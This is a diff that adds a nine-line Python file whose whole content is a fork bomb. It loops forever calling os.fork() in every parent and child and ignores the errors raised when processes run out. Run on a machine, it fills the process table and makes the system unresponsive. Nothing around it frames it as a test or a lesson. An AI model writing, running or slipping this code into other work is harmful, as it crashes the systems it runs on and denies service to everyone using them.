@@ -1,0 +1,9 @@
+"""Fork without end, in all children too."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
